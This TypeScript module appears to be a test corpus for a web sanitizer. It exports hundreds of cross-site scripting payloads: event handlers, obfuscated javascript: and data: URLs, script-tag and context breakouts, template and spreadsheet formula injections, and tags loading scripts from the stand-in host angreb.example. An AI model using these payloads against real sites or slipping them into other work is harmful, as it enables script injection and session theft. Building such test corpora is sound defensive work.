/**
 * Texts that try to run as code where text is shown: markup, attributes, addresses, encodings, templates, and what breaks
 * out of data written into a page. Each would call `hit()` or ask another host.
 */
const host = 'https://angreb.example/';

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];

const elements = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['video', 'src=x autoplay'],
  ['details', 'open'],
  ['input', 'autofocus'],
  ['a', 'href=# style=animation-name:x'],
  ['iframe', 'srcdoc=x'],
  ['marquee', 'loop=1'],
] as const;

const inAttributes = elements.flatMap(([name, attributes]) =>
  handlers.map((handler) => `<${name} ${attributes} ${handler}=hit()>`),
);

const addresses = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  'javascript&colon;hit()',
  '&#106;avascript:hit()',
  '&#x6A;avascript:hit()',
  'javascript://%0Ahit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=hit() xmlns="http://www.w3.org/2000/svg"/>',
  'vbscript:hit()',
  'blob:hit()',
  'feed:javascript:hit()',
  'view-source:javascript:hit()',
  '//angreb.example/x.js',
];

const inAddresses = addresses.flatMap((address) => [
  `<a href="${address}">tryk</a>`,
  `[tryk](${address})`,
  `![billede](${address})`,
  `<form action="${address}"><button>tryk</button></form>`,
  `<iframe src="${address}"></iframe>`,
]);

const scripts = [
  '<script>hit()</script>',
  '<SCRIPT>hit()</SCRIPT>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script >hit()</script >',
  '<script\n>hit()</script\n>',
  '<script/x>hit()</script>',
  '<script src=//angreb.example/x.js></script>',
  `<script type=module>import '${host}x.js'</script>`,
  '<svg><script>hit()</script></svg>',
  '<svg><script href=data:,hit()></script></svg>',
  '<math><script>hit()</script></math>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><script>hit()</script>">',
  '<!--><script>hit()</script>-->',
  '<!--<script>hit()//--></script>',
  '<![CDATA[<script>hit()</script>]]>',
  '<style></style><script>hit()</script>',
  '<title></title><script>hit()</script>',
  '<textarea></textarea><script>hit()</script>',
  '＜script＞hit()＜/script＞',
  '%3Cscript%3Ehit()%3C/script%3E',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
];

const breakouts = [
  '</script><script>hit()</script>',
  '</ScRiPt ><script>hit()</script>',
  '<!--<script',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '" onmouseover="hit()',
  "' onfocus='hit()' autofocus='",
  '` onload=`hit()',
  '</title><script>hit()</script>',
  '</style><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</template><script>hit()</script>',
  '</noscript><script>hit()</script>',
  '-->\u2028<script>hit()</script>',
  '"};hit();//',
  '"]);hit();([',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  "\\';hit();//",
  '");hit();("',
  '\u2028hit()\u2029',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '#{hit()}',
  '<%= hit() %>',
  '{hit()}',
  '{@html "<img src=x onerror=hit()>"}',
  '<Fragment set:html="<img src=x onerror=hit()>"/>',
  '---\nhit()\n---',
  '=HYPERLINK("https://angreb.example/","tryk")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
];

const others = [
  `<img src=${host}p.png>`,
  `<link rel=stylesheet href=${host}x.css>`,
  `<link rel=preload as=script href=${host}x.js>`,
  `<style>@import '${host}x.css';</style>`,
  `<style>*{background:url(${host}p.png)}</style>`,
  `<p style="background:url(${host}p.png)">x</p>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<base href=${host}>`,
  `<object data=${host}x.swf></object>`,
  `<embed src=${host}x.swf>`,
  `<video poster=${host}p.png></video>`,
  `<audio src=${host}a.mp3 autoplay></audio>`,
  `<picture><source srcset=${host}p.png><img></picture>`,
  `<svg><image href=${host}p.png /></svg>`,
  `<svg><use href="data:image/svg+xml,x#x"/></svg>`,
  `<svg><animate attributeName=href values=javascript:hit() /></svg>`,
  `<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:hit()">x</mi></math>`,
  `<table background=${host}p.png><td>x</table>`,
  `<button formaction=javascript:hit() form=x>x</button>`,
  '<input type=image src=x onerror=hit()>',
  '<isindex type=image src=1 onerror=hit()>',
  '<x contenteditable onblur=hit()>y</x>',
  '<shortlist-button data-slug="x" onclick=hit()></shortlist-button>',
  '<astro-island component-url="https://angreb.example/x.js" client="load" ssr></astro-island>',
  '<div id=indhold><div id=soeg><form id=location>',
  '<a id=document name=cookie>x</a>',
  '<img name=getElementById><img name=querySelector>',
  '[x]: javascript:hit()\n\n[x]',
  '<javascript:hit()>',
  '![x](x"onerror="hit())',
  '[x](https://eksempel.dk "x" onclick="hit()")',
  '`<img src=x onerror=hit()>`',
  '\u202E<script>hit()</script>',
  '<ſcript>hit()</ſcript>',
  '<img src=x onerror=\u2028hit()>',
  '<img/src/onerror=hit()>',
  '<img src=x\u000Conerror=hit()>',
  '<svg/onload=hit()//',
  '<<img src=x onerror=hit()>',
  '<img src="x` `<script>hit()</script>"` `>',
];

/** All of them, each once. */
export const attacks: readonly string[] = [
  ...new Set([...scripts, ...breakouts, ...others, ...inAddresses, ...inAttributes]),
];
